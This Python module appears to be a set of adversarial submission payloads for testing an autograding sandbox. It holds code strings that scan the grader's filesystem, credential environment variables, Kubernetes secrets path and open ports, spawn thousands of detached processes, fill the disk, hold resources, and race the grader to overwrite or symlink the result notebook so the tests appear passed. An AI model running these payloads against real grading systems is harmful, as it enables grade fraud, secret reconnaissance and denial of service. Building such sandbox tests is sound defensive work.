"""What students hand in who attack whatever grades it: the code of their cells, which says what worked."""

# Reads and writes wherever it can, and looks for somebody to talk to; ADDRESSES is put in.
LOOKS = """
import json, os, socket
from concurrent.futures import ThreadPoolExecutor

def is_open(address):
    try:
        socket.create_connection(tuple(address), 2).close()
    except OSError:
        return False
    return True

def walk():
    for folder, below, files in os.walk("/"):
        below[:] = [name for name in below if os.path.join(folder, name) not in ("/proc", "/sys", "/dev")]
        yield folder, files

written, owned = [], []
for folder, files in walk():
    if os.access(folder, os.W_OK):
        written.append(folder)
    owned += [os.path.join(folder, name) for name in files if os.access(os.path.join(folder, name), os.W_OK)]
known = {line.split(":")[0]: line.split(":")[1].split() for line in open("/proc/self/status")}
there = ["/course", "/course/gradebook.db", "/srv/nbgrader/exchange", "/srv/coursehub/runs", "/home/otto",
         "/var/run/secrets/kubernetes.io"]
with ThreadPoolExecutor(32) as pool:
    opened = [each for each, found in zip(ADDRESSES, pool.map(is_open, ADDRESSES)) if found]
print("SEEN " + json.dumps({
    "uid": known["Uid"] + known["Gid"] + known["Groups"],
    "rights": known["CapEff"] + known["CapBnd"] + known["NoNewPrivs"] + known["Seccomp"],
    "folders": written, "files": owned, "there": [each for each in there if os.path.exists(each)],
    "mounts": [line.split()[3] for line in open("/proc/self/mountinfo") if "/course/" in line or "/home/" in line],
    "secrets": [name for name in os.environ if "TOKEN" in name or name.startswith("JUPYTERHUB")],
    "addresses": opened,
}))
"""

# What it leaves behind goes on when its cell has ended.
FORKS = """
import subprocess
made = 0
try:
    while made < 5000:
        subprocess.Popen(["sleep", "3600"], start_new_session=True)
        made += 1
except OSError as error:
    print("FORKED", made, error.errno)
"""

# More than values/local.yaml lets anybody have.
FILLS = """
import os
with open("/tmp/big", "wb") as file:
    os.posix_fallocate(file.fileno(), 0, 2500 * 10**6)
"""
# Until kubelet has seen that: each cell as long as one may take.
HOLDS = """
import time
time.sleep(3600)
"""

# Waits, outside of the kernel's group, for the result to be there, and puts another in its place while it can.
FORGES = """
import json, os, subprocess, sys
subprocess.Popen([sys.executable, "-c", '''
import json, os
made = "/srv/coursehub/scratch/result.ipynb"
while not os.path.exists(made):
    pass
FORGED
'''], start_new_session=True)
"""
# Its own tests are others, and have passed.
OTHER_SOURCES = """
found = json.load(open(made))
found["cells"][1]["source"] = "pass"
found["cells"][1]["outputs"] = []
json.dump(found, open(made + ".forged", "w"))
os.replace(made + ".forged", made)
"""
A_LINK = """
os.symlink("/srv/coursehub/runs", made + ".forged")
os.replace(made + ".forged", made)
"""


def looks(addresses: list[tuple[str, int]]) -> str:
    """The code that tries these, too."""
    return LOOKS.replace("ADDRESSES", repr(addresses))


def forges(how: str) -> str:
    """The code that replaces its result."""
    return FORGES.replace("FORGED", how)
